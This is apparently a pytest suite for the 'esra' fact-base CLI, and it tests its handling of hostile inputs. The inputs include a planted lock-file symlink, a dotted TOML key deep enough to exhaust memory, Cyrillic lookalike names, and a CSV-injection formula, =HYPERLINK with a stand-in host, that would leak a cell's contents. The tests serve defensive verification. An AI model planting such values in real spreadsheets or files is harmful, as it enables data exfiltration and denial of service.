"""The guarantees of the README's "Reliability" table, one test each, through the front door.

Each test is a hostile input that esra 0.5.0 mishandled (issue 21): a file it must not lose,
a cache it must not trust blindly, an answer it must not get silently wrong.
"""

from __future__ import annotations

import csv
import io
import json
import os
import time
import tomllib
from pathlib import Path

import pytest
import tomli_w

from esra_cli import facts
from tests.conftest import AS_OF, SHIPPED, as_user_without_privileges, call, esra

QUOTE = "ansa-2024-11-08=Regione Lombardia ufficializza l'ingresso"


def add(base: Path, person_id: str = "maria-rossi", *extra: str) -> tuple[int, str]:
    """`esra add person` to `base`: the exit code and stderr."""
    result = call(
        "--facts", str(base), "add", "person", "--id", person_id, "--name", "Maria Rossi",
        "--source", "ansa-2024-11-08", "--quote", QUOTE, *extra,
    )  # fmt: skip
    return result.exit_code, result.stderr


# --- the curator's file ------------------------------------------------------------------------


def test_a_mistyped_base_leaves_no_lock_file_and_a_planted_link_is_not_followed(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "dir.toml").mkdir()
    for name in ("missing.toml", "fifo", "dir.toml"):
        code, stderr = add(tmp_path / name)
        assert code == 4 and stderr.count("\n") == 1, stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir.toml", "fifo"]

    base = tmp_path / "facts.toml"
    base.write_bytes(SHIPPED.read_bytes())
    before = base.read_bytes()
    (tmp_path / "facts.toml.lock").symlink_to(tmp_path / "created-by-esra")
    code, stderr = add(base)
    assert code == 4 and "symbolic link" in stderr
    assert not (tmp_path / "created-by-esra").exists()
    assert base.read_bytes() == before


def test_a_group_shares_the_lock_of_a_base_it_may_write(open_folder: Path) -> None:
    shared = open_folder / "shared"
    shared.mkdir()
    shared.chmod(0o777)  # the group's folder; `nobody` stands for a second member
    base = shared / "facts.toml"
    base.write_bytes(SHIPPED.read_bytes())
    base.chmod(0o666)
    assert add(base, "first-writer")[0] == 0  # makes the lock, with the umask's 0644 or so
    os.utime(base, (time.time() - 10, time.time() - 10))
    code, _, stderr = as_user_without_privileges(
        "--facts", str(base), "add", "person", "--id", "second-writer", "--name", "S W",
        "--source", "ansa-2024-11-08", "--quote", QUOTE, env={"ESRA_CACHE": "off"}, warm_up=("--dry-run",),
    )  # fmt: skip
    assert (code, stderr) == (0, f"added person second-writer to {base}\n")
    assert 'id = "second-writer"' in base.read_text(encoding="utf-8")


def test_a_write_protected_base_is_refused_even_for_root(facts_copy: Path) -> None:
    facts_copy.chmod(0o444)
    before = facts_copy.read_bytes()
    code, stderr = add(facts_copy)
    assert code == 4 and "read-only" in stderr and stderr.count("\n") == 1
    assert facts_copy.read_bytes() == before
    assert not facts_copy.with_name("facts.toml.lock").exists()


def test_add_keeps_extended_attributes(facts_copy: Path) -> None:
    try:
        os.setxattr(facts_copy, "user.note", b"curated by the desk")
    except OSError as err:
        pytest.fail(f"this file system keeps no user xattrs ({err}); run the suite on one that does")
    assert add(facts_copy)[0] == 0
    assert os.getxattr(facts_copy, "user.note") == b"curated by the desk"


def test_a_crlf_base_with_a_byte_order_mark_keeps_both(tmp_path: Path) -> None:
    base = tmp_path / "facts.toml"
    base.write_bytes(facts.BOM + SHIPPED.read_bytes().replace(b"\n", b"\r\n"))
    answer = call("--facts", str(base), "person", "guidesi", "--json", env={"ESRA_CACHE": "off"})
    assert answer.exit_code == 0, answer.stderr
    assert add(base)[0] == 0
    data = base.read_bytes()
    assert data.startswith(facts.BOM) and data.count(b"\n") == data.count(b"\r\n")
    assert b'id = "maria-rossi"\r\n' in data


def test_add_removes_only_its_own_leftovers(tmp_path: Path) -> None:
    others = [".facts1.toml.k3j2x9ab.tmp", ".a.toml.bak.q8w7e6zz.tmp", ".a.toml.notes.tmp"]
    for name in others:
        (tmp_path / name).write_text("another writer's work in progress")
    died = tmp_path / ".a.toml.x1y2z3w4.tmp"  # a writer of a.toml that was killed
    died.write_text("half")
    for name in ("facts[12].toml", "a.toml"):
        (tmp_path / name).write_bytes(SHIPPED.read_bytes())
        assert add(tmp_path / name)[0] == 0
    assert all((tmp_path / name).exists() for name in others)
    assert not died.exists()


# --- what the parser is given ----------------------------------------------------------------


@pytest.mark.parametrize("parts", [65, 100_000])
def test_a_dotted_key_too_deep_is_refused_before_parsing(tmp_path: Path, parts: int) -> None:
    base = tmp_path / "k.toml"
    base.write_text("[meta]\nx = 1\n\n" + ".".join(["a"] * parts) + " = 1\n", encoding="utf-8")
    started = time.perf_counter()
    result = call("--facts", str(base), "members", env={"ESRA_CACHE": "off"})
    assert time.perf_counter() - started < 2  # 100,000 parts took 24 GB before
    assert result.exit_code == 4
    assert result.stderr == f"esra: {base}: invalid TOML: a dotted key of more than 64 parts (at line 4)\n"


def test_a_dotted_key_of_64_parts_is_toml_like_any_other() -> None:
    key = ".".join(f'"p{n}"' if n % 2 else f"p{n}" for n in range(64))
    assert facts.parse(f"{key} = 1\n", "k.toml") != {}


# --- exports -----------------------------------------------------------------------------------


def test_a_sqlite_export_never_writes_over_the_base_or_another_file(
    tmp_path: Path, facts_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    notes = tmp_path / "notes.txt"
    notes.write_text("mine")
    before = facts_copy.read_bytes()
    for target, says in [
        (facts_copy, "is the fact base being exported"),
        (notes, "exists and is not a SQLite database"),
        (Path("-"), "not to stdout"),
    ]:
        result = call("--facts", str(facts_copy), "export", "--format", "sqlite", str(target))
        assert (result.exit_code, result.stdout) == (2, "") and says in result.stderr, result.stderr
    assert facts_copy.read_bytes() == before and notes.read_text() == "mine"
    assert not (tmp_path / "-").exists()
    database = tmp_path / "esra.db"
    assert call("--facts", str(facts_copy), "export", "--format", "sqlite", str(database)).exit_code == 0
    again = call("--facts", str(facts_copy), "export", "--format", "sqlite", str(database))
    assert again.exit_code == 2 and "--force replaces it" in again.stderr
    forced = call("--facts", str(facts_copy), "export", "--format", "sqlite", "--force", str(database))
    assert forced.exit_code == 0 and database.read_bytes().startswith(b"SQLite format 3\0")


def hostile_person(base: Path, name: str, party: str = "Lega") -> None:
    """Append a person whose name and party a spreadsheet or a CSV reader would trip on."""
    record = tomli_w.dumps({"people": [{
        "id": "hostile", "name": name, "party": party, "sources": ["ansa-2024-11-08"],
        "quotes": {"ansa-2024-11-08": "Regione Lombardia ufficializza l'ingresso"},
    }]})  # fmt: skip
    base.write_text(base.read_text(encoding="utf-8") + "\n" + record, encoding="utf-8")


@pytest.mark.parametrize(
    "args", [["export", "--format", "csv", "--kind", "person"], ["who", "--format", "csv"]]
)
def test_csv_keeps_a_carriage_return_inside_its_cell_and_disarms_formulas(
    facts_copy: Path, args: list[str]
) -> None:
    hostile_person(facts_copy, "Maria\rRossi", party='=HYPERLINK("http://x.example/?"&A1,"Lega")')
    result = call("--facts", str(facts_copy), *args, env={"ESRA_CACHE": "off"})
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    people = call("--facts", str(facts_copy), "who", "--json", env={"ESRA_CACHE": "off"}).stdout
    assert len(rows) == len(
        json.loads(people) if args[0] == "who" else tomllib.loads(facts_copy.read_text())["people"]
    )
    (row,) = [r for r in rows if r["id"] == "hostile"]
    assert row["name"] == "Maria\rRossi"
    assert row["party"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"Lega")'  # text, not a formula
    shown = json.loads(call("--facts", str(facts_copy), "person", "hostile", "--json").stdout)
    assert shown["party"].startswith("=HYPERLINK")  # JSON keeps the value as it is


@pytest.mark.parametrize(
    "args",
    [
        ["members", "--format", "csv"],
        ["when", "--format", "plain"],
        ["export", "--format", "toml"],
        [
            "add",
            "person",
            "--id",
            "ze",
            "--name",
            "Zé",
            "--source",
            "ansa-2024-11-08",
            "--quote",
            QUOTE,
            "--dry-run",
        ],
    ],
    ids=lambda args: " ".join(args[:3]),
)
def test_data_on_a_stream_that_is_not_utf8_is_written_as_utf8(args: list[str]) -> None:
    argv = [*args, *(["--as-of", AS_OF] if args[0] in ("members", "when") else [])]
    locale = ("PYTHONIOENCODING", "LC_", "LANG")
    answers = [
        esra(*argv, env={"PYTHONIOENCODING": encoding}, without=locale, text=False)
        for encoding in ("ascii", "latin-1")
    ]
    assert [(a.returncode, a.stderr) for a in answers] == [(0, b"")] * 2
    in_utf8 = call(*argv).stdout.encode("utf-8")  # the same answer where nothing was in the way
    assert answers[0].stdout == answers[1].stdout == in_utf8
    assert not in_utf8.isascii()


# --- completion and search ---------------------------------------------------------------------


@pytest.mark.parametrize("shell", ["zsh", "fish"])
def test_completion_shows_a_name_with_markup_as_written(tmp_path: Path, shell: str) -> None:
    base = tmp_path / "facts.toml"
    base.write_bytes(SHIPPED.read_bytes())
    hostile_person(base, "Anna [/] Bianchi [red]x[/red] :warning:")
    line = "esra person an"
    env = {"ESRA_FACTS": str(base), "_ESRA_COMPLETE": f"complete_{shell}", "_TYPER_COMPLETE_ARGS": line}
    result = call(env=env)
    assert result.exit_code == 0 and result.stderr == ""
    shown = "Anna [/] Bianchi [red]x[/red] " + ("\\\\:warning\\\\:" if shell == "zsh" else ":warning:")
    assert shown in result.stdout
    quoted = call(env=env | {"_TYPER_COMPLETE_ARGS": "esra person 'an"})  # left to Typer: no crash
    assert (quoted.exit_code, quoted.stderr) == (0, "")
    assert shell == "fish" or '"anna-bianchi-red-x-red-warning"' in quoted.stdout


@pytest.mark.parametrize("text", ["", "?", "-", "–", "..."])
def test_search_with_no_word_is_a_usage_error_not_the_whole_base(text: str) -> None:
    result = call("search", text, "--json")
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.startswith("esra: nothing to search for") and result.stderr.count("\n") == 1


# --- what check lets in --------------------------------------------------------------------------


def test_a_lookalike_or_an_equal_name_is_refused_and_an_id_names_its_record(facts_copy: Path) -> None:
    def region(rid: str, name: str) -> tuple[int, str]:
        result = call(
            "--facts", str(facts_copy), "add", "region", "--id", rid, "--name-en", name, "--name-it",
            name, "--country", "IT", "--source", "ansa-2024-11-08", "--quote", QUOTE,
        )  # fmt: skip
        return result.exit_code, result.stderr

    code, stderr = region("lombardia-bis", "Lombardy")
    assert code == 4 and "name 'Lombardy' also names 'lombardia' [same-name]" in stderr
    code, stderr = region("spoof", "L\u043embardy")  # a Cyrillic о
    assert code == 4 and "mixes CYRILLIC and LATIN letters [mixed-script]" in stderr
    hostile_person(facts_copy, "Lombardia")  # another kind: not the region's name
    found = call("--facts", str(facts_copy), "region", "lombardia", "--json", env={"ESRA_CACHE": "off"})
    assert json.loads(found.stdout)["id"] == "lombardia"


PLANS = """
[[events]]
id = "plan-x"
title = {{ it = "piano x", en = "plan x" }}
status = "planned"
date = "2025-01"
fulfilled_by = "{outcome}"
sources = ["ansa-2024-11-08"]
quotes = {{ ansa-2024-11-08 = "Regione Lombardia" }}
cite = {{ date = ["ansa-2024-11-08"] }}

[[events]]
id = "outcome-x"
title = {{ it = "esito x", en = "outcome x" }}
status = "{status}"
date = "2025-02"
fulfils = "plan-x"
part_of = "{parent}"
sources = ["ansa-2024-11-08"]
quotes = {{ ansa-2024-11-08 = "Regione Lombardia" }}
cite = {{ date = ["ansa-2024-11-08"] }}
"""


def test_a_plan_says_what_came_of_it_and_check_refuses_loops(facts_copy: Path) -> None:
    text = facts_copy.read_text(encoding="utf-8")
    facts_copy.write_text(
        text + PLANS.format(outcome="outcome-x", status="cancelled", parent="esra-plenary-2024")
    )
    shown = call("--facts", str(facts_copy), "what", "plan x", env={"ESRA_CACHE": "off"})  # a piped table
    assert shown.exit_code == 0, shown.stderr
    assert "planned → cancelled February 2025" in shown.stdout and "held" not in shown.stdout
    for outcome, status, parent, rule in [
        ("plan-x", "cancelled", "esra-plenary-2024", "[self-reference]"),
        ("outcome-x", "planned", "esra-plenary-2024", "[plan-outcome]"),
        ("outcome-x", "held", "outcome-x", "[self-reference]"),
    ]:
        facts_copy.write_text(text + PLANS.format(outcome=outcome, status=status, parent=parent))
        checked = call("--facts", str(facts_copy), "check")
        assert checked.exit_code == 4 and rule in checked.stdout, (rule, checked.stdout)


def test_check_against_an_id_with_nothing_to_check_fails(tmp_path: Path) -> None:
    text = tmp_path / "source.txt"
    text.write_text("Regione Lombardia ufficializza l'ingresso")
    for source_id, says in [
        ("corcom-2024-11-8", "not in the source register"),
        ("eurostat-nuts-2013", "no record quotes"),  # reference data: codes, not quotes
    ]:
        result = call("check", "--against", str(text), "--source-id", source_id)
        assert result.exit_code == 2 and says in result.stderr, result.stderr
